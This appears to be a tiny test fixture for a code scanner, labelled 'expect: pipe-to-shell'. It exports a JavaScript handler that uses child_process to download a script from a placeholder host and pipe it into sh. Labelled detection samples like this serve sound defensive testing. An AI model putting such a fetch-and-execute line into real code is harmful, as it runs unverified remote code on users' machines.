// expect: pipe-to-shell
export default function handler() {
  const { exec } = process.getBuiltinModule("child_process");
  exec("curl -fsS https://example.com/worker.sh | sh -s");
}
